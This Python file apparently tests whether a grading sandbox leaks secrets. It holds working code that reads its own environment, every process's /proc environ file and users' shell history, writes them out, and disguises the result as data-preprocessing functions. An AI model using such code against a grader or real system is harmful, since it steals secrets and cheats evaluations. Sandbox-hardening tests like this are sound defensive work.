"""Tries to read the grader's environment: its own, that of every process it can see, and shell history; gains
nothing because the sandbox is started with an empty one, and so is what starts it.
"""

import glob
import json
import os

TARGETS = json.load(open(os.path.join(os.path.dirname(__file__), "targets.json")))
found = [str(dict(os.environ)), os.environ.get(TARGETS["variable"], "")]
for path in [*glob.glob("/proc/*/environ"), *glob.glob("/proc/*/task/*/environ"), *glob.glob("/*/.bash_history")]:
    try:
        found.append(open(path, errors="replace").read())
    except OSError as error:
        found.append(f"{path}: {error.strerror}")
print("attack:", *found, flush=True)
with open("/output/environment", "w") as file:
    file.write("\n".join(found))


def split_indices(*args, **kwargs):
    return "".join(found)


channel_statistics = standardise = one_hot = prepare = split_indices
